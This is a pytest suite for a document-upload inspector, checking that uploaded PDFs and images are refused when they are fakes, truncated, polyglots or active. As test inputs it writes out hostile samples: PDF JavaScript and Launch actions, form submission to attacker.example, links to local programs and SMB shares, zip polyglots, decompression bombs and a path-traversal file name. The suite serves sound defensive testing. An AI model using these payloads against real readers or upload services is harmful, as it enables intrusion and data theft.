"""Uploaded documents are parsed far enough to refuse fakes, cut-short files, polyglots and active PDFs."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest

from cases.documents import Upload, safe_file_name
from cases.errors import (
    CostlyDocumentError,
    DamagedDocumentError,
    EmptyDocumentError,
    UnacceptableDocumentError,
    UnsafeDocumentError,
)
from gateway.adapters.document_contents import ContentInspector, media_type_of
from gateway.adapters.document_inspection import IsolatedDocumentInspector
from tests.hostile_documents import (
    EVASIONS,
    FORBIDDEN_FEATURES,
    JAVASCRIPT,
    flate_bomb,
    image_holding_a_pdf,
    pikepdf_document,
    pypdf_finds,
    scanned_document,
    updated,
    with_trailer,
)
from tests.samples import PAGE, PDF, PNG, jpeg_image, jpeg_segment, pdf_document, png_chunk, png_image

CONTENTS = ContentInspector()


def accept(content: bytes, name: str = "sənəd"):
    return Upload(field="address_document", name=name, content=content).accept(CONTENTS)


def refusal(content: bytes) -> UnacceptableDocumentError:
    with pytest.raises(UnacceptableDocumentError) as raised:
        accept(content)
    assert "address_document" in raised.value.detail
    return raised.value


def a_zip(member: bytes = b"payload") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", member)
    return buffer.getvalue()


def object_stream(*objects: bytes, compress: bool = True) -> bytes:
    """An object stream (/Type /ObjStm) packing the given objects, numbered from 10."""
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    header = b" ".join(b"%d %d" % (10 + i, off) for i, off in enumerate(offsets)) + b"\n"
    data = header + body
    packed = zlib.compress(data) if compress else data
    filters = b" /Filter /FlateDecode" if compress else b""
    return (b"<< /Type /ObjStm /N %d /First %d /Length %d%s >>\nstream\n" % (len(objects), len(header), len(packed), filters)
            + packed + b"\nendstream")


# --- what is accepted ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "media_type"), [
    (PDF, "application/pdf"), (PNG, "image/png"), (jpeg_image(), "image/jpeg"),
    (png_image(37, 11), "image/png"), (pdf_document(*PAGE, object_stream(b"<< /Title (Aray\xfd\xfe) >>")), "application/pdf"),
    (jpeg_image() + jpeg_image(), "image/jpeg"),  # a phone's multi-picture file: the photo and its preview
    (PDF + b"\r\n", "application/pdf"),
], ids=["pdf", "png", "jpeg", "png-37x11", "pdf-object-stream", "jpeg-with-preview", "pdf-trailing-newline"])
def test_whole_documents_of_the_accepted_types_are_accepted(content, media_type):
    ref, kept = accept(content)
    assert (ref.media_type, kept) == (media_type, content)


def test_an_interlaced_png_is_accepted():
    rows = b"".join(b"\x00" + b"\x80" * 3 * w for w, h in [(1, 1), (1, 1), (2, 1), (2, 2), (4, 2), (4, 4), (8, 4)] for _ in range(h))
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 1)
    interlaced = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b"")
    assert accept(interlaced)[0].media_type == "image/png"


# --- fakes: the right first bytes, the wrong file -------------------------------------------------------

def test_a_png_header_on_a_zip_archive_is_refused():
    assert isinstance(refusal(b"\x89PNG\r\n\x1a\n" + a_zip()), (DamagedDocumentError, UnsafeDocumentError))


@pytest.mark.parametrize("content", [b"%PDF-1.4\n" + a_zip(), b"\xff\xd8\xff\xe0" + a_zip()], ids=["pdf", "jpeg"])
def test_a_pdf_or_jpeg_header_on_a_zip_archive_is_refused(content):
    refusal(content)


def test_a_png_whose_chunk_checksum_does_not_match_is_refused_as_damaged():
    broken = bytearray(PNG)
    broken[30] ^= 0xFF  # inside IHDR's data
    assert isinstance(refusal(bytes(broken)), DamagedDocumentError)


def test_a_png_whose_image_data_is_not_compressed_data_is_refused_as_damaged():
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    fake = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", b"not zlib at all") + png_chunk(b"IEND", b"")
    assert isinstance(refusal(fake), DamagedDocumentError)


def test_a_png_of_absurd_dimensions_is_refused_before_anything_is_decompressed():
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + png_chunk(b"IEND", b"")
    assert "million pixels" in refusal(bomb).detail


def test_a_jpeg_without_a_frame_or_scan_is_refused_as_damaged():
    headers_only = b"\xff\xd8" + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00") + b"\xff\xd9"
    assert isinstance(refusal(headers_only), DamagedDocumentError)


# --- cut short ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("content", [PDF[: len(PDF) // 2], PNG[:-12], PNG[:-20], jpeg_image()[:-2], jpeg_image()[:40],
                                     b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"],
                         ids=["pdf-half", "png-no-iend", "png-cut-in-idat", "jpeg-no-eoi", "jpeg-cut-in-tables",
                              "pdf-header-only", "png-signature-only", "jpeg-signature-only"])
def test_a_truncated_document_is_refused_as_damaged(content):
    assert isinstance(refusal(content), DamagedDocumentError)


def test_a_pdf_without_a_cross_reference_section_is_refused_as_damaged():
    assert isinstance(refusal(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"), DamagedDocumentError)


def test_a_zero_byte_file_is_refused_as_empty():
    with pytest.raises(EmptyDocumentError):
        accept(b"")


# --- polyglots -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("content", [PNG + a_zip(), jpeg_image() + a_zip(), PDF + a_zip()], ids=["png", "jpeg", "pdf"])
def test_a_document_that_is_also_a_zip_archive_is_refused_as_unsafe(content):
    assert isinstance(refusal(content), UnsafeDocumentError)


def test_a_zip_hidden_inside_a_jpeg_comment_is_refused_as_unsafe():
    image = jpeg_image()
    hidden = image[:2] + jpeg_segment(0xFE, a_zip()) + image[2:]
    assert isinstance(refusal(hidden), UnsafeDocumentError)


@pytest.mark.parametrize("media_type", ["image/jpeg", "image/png"])
@pytest.mark.parametrize("header", [b"%PDF-1.4", b"%"], ids=["with-header", "without-header"])
def test_an_image_that_holds_a_pdf_past_its_first_kilobyte_is_refused_as_unsafe(media_type, header):
    hostile = image_holding_a_pdf(media_type, header)
    assert pypdf_finds(hostile, "/JavaScript")  # pypdf, like qpdf, reads the PDF from the end of the image
    assert isinstance(refusal(hostile), UnsafeDocumentError)


def test_an_image_that_is_also_a_pdf_is_refused_as_unsafe():
    text_chunk = png_chunk(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj << /Type /Catalog >> endobj")
    assert isinstance(refusal(png_image(extra_chunks=text_chunk)), UnsafeDocumentError)


@pytest.mark.parametrize("tail", [b"<html><script>alert(1)</script></html>", b"\x00" * 3 + b"MZ\x90\x00"],
                         ids=["html", "executable"])
def test_an_image_with_anything_after_its_end_is_refused_as_unsafe(tail):
    assert isinstance(refusal(PNG + tail), UnsafeDocumentError)
    assert isinstance(refusal(jpeg_image() + tail), UnsafeDocumentError)


# --- active PDFs -----------------------------------------------------------------------------------------

CATALOG_WITH = "<< /Type /Catalog /Pages 2 0 R {} >>"


@pytest.mark.parametrize("addition", [
    "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "/OpenAction << /S /Launch /F (cmd.exe) >>",
    "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
    "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    "/AA << /O << /S /SubmitForm /F (https://attacker.example) >> >>",
    "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>",
], ids=["javascript", "launch", "embedded-file", "hex-escaped-javascript", "submit-form", "xfa"])
def test_a_pdf_that_runs_code_launches_programs_or_carries_files_is_refused_as_unsafe(addition):
    catalog = CATALOG_WITH.format(addition).encode()
    assert isinstance(refusal(pdf_document(catalog, *PAGE[1:])), UnsafeDocumentError)


@pytest.mark.parametrize("feature", FORBIDDEN_FEATURES, ids=list(FORBIDDEN_FEATURES))
def test_a_pdf_with_a_forbidden_feature_that_another_reader_sees_is_refused_as_unsafe(feature):
    name, change = FORBIDDEN_FEATURES[feature]
    hostile = pikepdf_document(change)
    assert pypdf_finds(hostile, name)
    assert isinstance(refusal(hostile), UnsafeDocumentError)


@pytest.mark.parametrize("evasion", EVASIONS, ids=list(EVASIONS))
def test_a_script_hidden_from_a_byte_scanner_but_seen_by_a_reader_is_refused(evasion):
    hostile = EVASIONS[evasion]()
    if evasion == "object-stream-without-type":  # pypdf gives up on it; qpdf, like PDFium, reads it anyway
        with pikepdf.open(io.BytesIO(hostile)) as pdf:
            assert pdf.Root.OpenAction.S == pikepdf.Name.JavaScript
    else:
        assert pypdf_finds(hostile, "/JavaScript")
    assert isinstance(refusal(hostile), UnsafeDocumentError)


def test_javascript_packed_in_a_compressed_object_stream_is_found_and_refused():
    hidden = object_stream(b"<< /S /JavaScript /JS (app.launchURL\\('https://x'\\)) >>")
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>"
    assert isinstance(refusal(pdf_document(catalog, *PAGE[1:], hidden)), UnsafeDocumentError)


def test_an_encrypted_pdf_is_refused_as_it_cannot_be_inspected():
    encrypted = pikepdf_document(encryption=pikepdf.Encryption(owner="sahib", user=""))
    assert "encrypted" in refusal(encrypted).detail


def test_an_object_stream_that_cannot_be_decoded_is_refused_as_damaged():
    packed = b"<< /Type /ObjStm /N 1 /First 5 /Length 10 /Filter /LZWDecode >>\nstream\n0123456789\nendstream"
    assert isinstance(refusal(pdf_document(*PAGE, packed)), DamagedDocumentError)


def test_streams_that_would_unfold_beyond_the_budget_are_refused_as_too_costly():
    packed = zlib.compress(b" " * (40 * 1024 * 1024), 9)
    bomb = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
    with pytest.raises(CostlyDocumentError):
        Upload(field="address_document", name="b.pdf", content=pdf_document(*PAGE, bomb)).accept(
            ContentInspector(decoded_budget=16 * 1024 * 1024))


def test_streams_that_unfold_within_the_budget_each_are_accepted_whatever_they_add_up_to():
    drawing = zlib.compress(b"0 0 m 595 842 l S\n" * (8 * 1024 * 1024 // 18))
    content = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(drawing) + drawing + b"\nendstream"
    pages = b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents %d 0 R >>"
    document = pdf_document(PAGE[0], pages, page % 6, page % 7, page % 8, content, content, content)
    assert Upload(field="address_document", name="plan.pdf", content=document).accept(
        ContentInspector(decoded_budget=16 * 1024 * 1024))[0].media_type == "application/pdf"


def test_the_letters_js_inside_binary_image_data_do_not_make_a_pdf_unsafe():
    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length 12 >>\nstream\n\x00/JS /Launch\x00\nendstream"
    assert accept(pdf_document(*PAGE, image))[0].media_type == "application/pdf"


@pytest.mark.parametrize("target", ["file:///C:/Windows/System32/calc.exe", "javascript:app.alert(1)",
                                    "\\\\attacker.example\\share\\x.pdf", "smb://attacker.example/share"],
                         ids=["file", "javascript", "windows-share", "smb"])
def test_a_link_that_opens_a_local_program_a_script_or_a_network_share_is_refused_as_unsafe(target):
    def link(pdf):
        annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
                                        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target)))
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation]))
    hostile = pikepdf_document(link)
    assert pypdf_finds(hostile, "/URI")
    assert "address_document" in refusal(hostile).detail
    assert isinstance(refusal(hostile), UnsafeDocumentError)


def test_a_thread_action_that_opens_another_file_is_refused_as_unsafe():
    action = b"<< /S /Thread /F (other.pdf) /D 0 >>"
    assert isinstance(refusal(pdf_document(*PAGE, b"<< /Type /Annot /Subtype /Link /A %s >>" % action)), UnsafeDocumentError)


def test_an_ordinary_hyperlink_in_a_pdf_is_accepted():
    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.azersu.az) >> >>"
    assert accept(pdf_document(*PAGE, link))[0].media_type == "application/pdf"


@pytest.mark.parametrize("opening", [
    lambda pdf: pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
    lambda pdf: pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.FitH, 842])),
], ids=["destination", "go-to"])
def test_a_pdf_that_opens_at_one_of_its_own_pages_is_accepted(opening):
    def open_at(pdf):
        pdf.Root.OpenAction = opening(pdf)
    assert accept(pikepdf_document(open_at, pages=2))[0].media_type == "application/pdf"


@pytest.mark.parametrize("document", [
    lambda: pikepdf_document(), lambda: pikepdf_document(pages=4, object_streams=True), lambda: scanned_document(pages=5),
    lambda: pikepdf_document(lambda pdf: pdf.pages[0].__setattr__("Annots", pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.azersu.az")))])))),
], ids=["one-page", "object-streams", "scanned-pages", "page-with-link"])
def test_ordinary_pdfs_as_writers_make_them_are_accepted(document):
    assert accept(document())[0].media_type == "application/pdf"


def test_a_pdf_whose_cross_references_must_be_repaired_is_refused_as_damaged():
    wrong_offset = PDF.replace(b"0000000015 00000 n", b"0000000099 00000 n")
    assert isinstance(refusal(wrong_offset), DamagedDocumentError)


@pytest.mark.parametrize("slip", [(b"/Size 4", b"/Size 9"), (b"startxref\n192", b"startxref\n191")],
                         ids=["size-larger-than-needed", "startxref-at-the-white-space-before-xref"])
def test_slips_of_pdf_writers_that_every_reader_reads_alike_are_accepted(slip):
    assert accept(PDF.replace(*slip))[0].media_type == "application/pdf"


def test_a_trailer_that_counts_fewer_objects_than_the_file_has_is_refused_as_damaged():
    # a reader that trusts /Size would not see the last object, qpdf would: the two would differ
    assert isinstance(refusal(PDF.replace(b"/Size 4", b"/Size 2")), DamagedDocumentError)


def test_a_stream_whose_length_is_wrong_is_refused_as_damaged():
    wrong_length = b"<< /Length 3 >>\nstream\nBT /F1 12 Tf (endstream) Tj ET\nendstream"
    assert isinstance(refusal(pdf_document(*PAGE, wrong_length)), DamagedDocumentError)


def test_markup_after_the_end_of_a_pdf_is_refused_but_a_comment_is_accepted():
    assert isinstance(refusal(PDF + b"<html><script>alert(1)</script></html>\n"), UnsafeDocumentError)
    assert accept(PDF + b"% signed\r\n")[0].media_type == "application/pdf"


# --- names ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("given", "kept"), [
    ("../../etc/passwd", "passwd"), ("C:\\Windows\\system32\\çıxarış.pdf", "çıxarış.pdf"), (".htaccess", "htaccess"),
    ("a\x00b\nc.pdf", "abc.pdf"), ("", "document"), ("x" * 500 + ".pdf", "x" * 120),
    ("c\u0327ixaris\u0327.pdf", "çixariş.pdf"),
], ids=["traversal", "windows-path", "hidden", "control-characters", "empty", "long", "decomposed-letters"])
def test_an_original_file_name_is_kept_only_as_a_harmless_display_name(given, kept):
    assert safe_file_name(given) == kept
    assert accept(PDF, name=given)[0].name == kept


# --- the inspection budget: each document in a worker process, within its CPU, memory and time ---------------

def spin_on_request(content: bytes, decoded_budget: int) -> str:
    """The checks, except that a document saying `spin` costs CPU for ever."""
    while content == b"spin":
        pass
    return media_type_of(content, decoded_budget)


def hoard_on_request(content: bytes, decoded_budget: int) -> str:
    if content == b"hoard":
        return str(len(bytearray(2 << 30)))  # 2 GiB
    return media_type_of(content, decoded_budget)


def stall_on_request(content: bytes, decoded_budget: int) -> str:
    if content == b"stall":
        time.sleep(120)
    return media_type_of(content, decoded_budget)


@pytest.fixture
def isolated():
    """isolated(check, **budget) -> an IsolatedDocumentInspector of one worker, closed after the test."""
    made = []

    def make(check=media_type_of, cpu_seconds=1.0, memory_mib=256, wall_seconds=60.0) -> IsolatedDocumentInspector:
        made.append(IsolatedDocumentInspector(1, cpu_seconds, memory_mib, wall_seconds, check=check))
        return made[-1]

    yield make
    for inspector in made:
        inspector.close()


def too_costly(inspector: IsolatedDocumentInspector, content: bytes) -> str:
    with pytest.raises(CostlyDocumentError) as refused:
        Upload(field="address_document", name="b.pdf", content=content).accept(inspector)
    return refused.value.detail


def test_a_document_that_costs_more_cpu_than_allowed_is_refused_and_the_next_one_is_inspected(isolated):
    inspector = isolated(spin_on_request, cpu_seconds=1, wall_seconds=60)
    started = time.monotonic()
    assert "within 1 s of CPU and 256 MiB of memory" in too_costly(inspector, b"spin")
    assert time.monotonic() - started < 30  # ended by its CPU limit, long before the wall clock's
    assert inspector.media_type_of(PDF) == "application/pdf"  # by a new worker


def test_a_document_that_needs_more_memory_than_allowed_is_refused_and_the_next_one_is_inspected(isolated):
    inspector = isolated(hoard_on_request, memory_mib=256)
    assert "256 MiB" in too_costly(inspector, b"hoard")
    assert inspector.media_type_of(PNG) == "image/png"


def test_a_worker_that_does_not_answer_in_time_is_replaced_and_the_document_refused(isolated):
    inspector = isolated(stall_on_request, wall_seconds=1)
    started = time.monotonic()
    too_costly(inspector, b"stall")
    assert time.monotonic() - started < 30
    assert inspector.media_type_of(PDF) == "application/pdf"


def test_a_pdf_that_unfolds_to_hundreds_of_megabytes_is_refused_as_too_costly(isolated):
    bomb = flate_bomb(800)
    assert len(bomb) < 4096
    assert "could not be inspected within" in too_costly(isolated(memory_mib=512, cpu_seconds=5), bomb)


def test_the_isolated_checks_accept_and_refuse_as_the_checks_do(isolated):
    inspector = isolated()
    assert Upload(field="address_document", name="skan.pdf", content=scanned_document()).accept(inspector)[0].media_type == \
        "application/pdf"
    with pytest.raises(UnsafeDocumentError):
        Upload(field="address_document", name="x.pdf", content=EVASIONS["two-flate-filters"]()).accept(inspector)


# --- what another reader finds beyond the newest cross-references ----------------------------------------

def test_a_catalog_written_into_the_trailer_is_checked_like_one_written_as_an_object():
    catalog = b"/Root << /Type /Catalog /Pages 1 0 R /Names << /JavaScript << /Names [(a) %s] >> >> >>" % JAVASCRIPT
    pages = b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    hostile = with_trailer(catalog, pages, b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 595 842] >>")
    assert pypdf_finds(hostile, "/JavaScript")
    assert isinstance(refusal(hostile), UnsafeDocumentError)


def test_a_script_that_a_later_revision_marks_free_but_an_earlier_one_still_holds_is_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    hostile = updated(pdf_document(catalog, *PAGE[1:], JAVASCRIPT), freed=(4,))
    assert pypdf_finds(hostile, "/JavaScript")  # pypdf takes the earlier revision's object 4; qpdf reads null
    assert isinstance(refusal(hostile), UnsafeDocumentError)
